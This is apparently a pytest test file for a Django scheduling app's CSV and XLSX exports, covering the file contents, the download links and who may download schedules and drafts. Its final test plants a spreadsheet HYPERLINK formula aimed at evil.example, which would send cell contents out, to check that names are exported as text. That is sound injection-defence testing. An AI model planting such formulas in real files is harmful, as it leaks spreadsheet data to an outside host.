"""A schedule as CSV (one row per assignment) and as an XLSX workbook with a sheet per rotation: on the coordinator's
week-by-week page and in the API (/schedules/{id}/csv, /xlsx)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from allocation.models import Assignment
from allocation.services.spreadsheets import EMPTY_SEAT, schedule_csv, schedule_xlsx
from tests.factories import ScheduleFactory

pytestmark = pytest.mark.django_db


def assignment_rows(schedule) -> set[tuple]:
    return {(a.week.index + 1, a.week.start_date.isoformat(), a.rotation.name, a.faculty.external_id, a.faculty.display_name)
            for a in Assignment.objects.filter(schedule=schedule).select_related("week", "rotation", "faculty")}


def test_the_csv_has_exactly_one_row_per_assignment(market):
    rows = list(csv.DictReader(io.StringIO(schedule_csv(schedule=market))))
    assert {(int(r["week"]), r["week_start"], r["rotation"], r["faculty"], r["name"]) for r in rows} == assignment_rows(market)
    assert len(rows) == 5
    assert all(dt.date.fromisoformat(r["week_end"]) - dt.date.fromisoformat(r["week_start"]) == dt.timedelta(days=6)
               for r in rows)
    holiday = [r for r in rows if r["week"] == "4"]
    assert not holiday, "nobody serves the holiday week in the market fixture"


def test_the_workbook_has_a_sheet_per_rotation_with_every_week_and_seat(market, year):
    book = load_workbook(io.BytesIO(schedule_xlsx(schedule=market)))
    assert book.sheetnames == ["clinic", "inpatient"]
    seen = set()
    for name in book.sheetnames:
        rows = list(book[name].iter_rows(values_only=True))
        assert rows[0][:5] == ("Week", "Monday", "Sunday", "Holiday", "Seats")
        assert [r[0] for r in rows[1:]] == list(range(1, 9)), "every week of the year, in order"
        for r in rows[1:]:
            monday = r[1].date()
            assert r[4] == 1
            for cell in r[5:]:
                if cell and cell != EMPTY_SEAT:
                    display, ext = cell.rsplit(" (", 1)
                    seen.add((r[0], monday.isoformat(), name, ext.rstrip(")"), display))
        assert rows[4][3] == "Independence Day"
    assert seen == assignment_rows(market)
    inpatient = list(book["inpatient"].iter_rows(values_only=True))
    assert inpatient[4][5] == EMPTY_SEAT, "week 4 inpatient has a seat and nobody in it"


def test_the_week_by_week_page_offers_both_downloads(client_as, coordinator, market):
    client = client_as(coordinator)
    html = client.get(f"/coordinator/schedules/{market.pk}/weeks/").content.decode()
    assert f"/coordinator/schedules/{market.pk}/export.csv" in html and f"/coordinator/schedules/{market.pk}/export.xlsx" in html
    response = client.get(f"/coordinator/schedules/{market.pk}/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="schedule-2026-{market.pk}-published.csv"'
    assert response.content.decode() == schedule_csv(schedule=market)
    response = client.get(f"/coordinator/schedules/{market.pk}/export.xlsx")
    assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"]
    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["clinic", "inpatient"]


@pytest.mark.parametrize("who", ["anonymous", "faculty"])
def test_only_coordinators_download_from_the_pages(client_as, request, market, who):
    user = None if who == "anonymous" else request.getfixturevalue(who).user
    client = client_as(user)
    for ext in ("csv", "xlsx"):
        assert client.get(f"/coordinator/schedules/{market.pk}/export.{ext}").status_code in (302, 403)


def test_the_api_exports_the_published_schedule_to_faculty_and_drafts_to_coordinators_only(as_, market, faculty):
    draft = ScheduleFactory(year=market.year, name="Draft", rows=[(faculty, 6, "inpatient")])
    api = as_("faculty")
    response = api.get(f"/api/v1/schedules/{market.pk}/csv")
    assert response.status_code == 200 and response.content.decode() == schedule_csv(schedule=market)
    response = api.get(f"/api/v1/schedules/{market.pk}/xlsx")
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["clinic", "inpatient"]
    for ext in ("csv", "xlsx"):
        refused = api.get(f"/api/v1/schedules/{draft.pk}/{ext}")
        assert refused.status_code == 403 and "draft" in str(refused.json())


def test_the_api_exports_drafts_to_coordinators_and_refuses_anonymous(as_, api_client, market, faculty):
    draft = ScheduleFactory(year=market.year, name="Draft", rows=[(faculty, 6, "inpatient")])
    assert api_client.get(f"/api/v1/schedules/{market.pk}/csv").status_code in (401, 403)
    response = as_("coordinator").get(f"/api/v1/schedules/{draft.pk}/csv")
    assert response.status_code == 200
    assert [r["faculty"] for r in csv.DictReader(io.StringIO(response.content.decode()))] == ["F001"]
    assert as_("coordinator").get("/api/v1/schedules/999999/xlsx").status_code == 404


def test_names_that_look_like_formulas_stay_text_in_the_workbook(market, faculty, year):
    faculty.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Dr. Alice")'
    faculty.save(update_fields=["display_name"])
    week = market.year.weeks.get(index=3)
    week.holiday_name = "=1+1"
    week.save(update_fields=["holiday_name"])
    book = load_workbook(io.BytesIO(schedule_xlsx(schedule=market)))
    cells = [cell for name in book.sheetnames for row in book[name].iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert {c.value for c in cells} == {f"{faculty.display_name} (F001)", "=1+1"}
    assert all(c.data_type == "s" for c in cells), "a name is text, never a formula the spreadsheet would run"
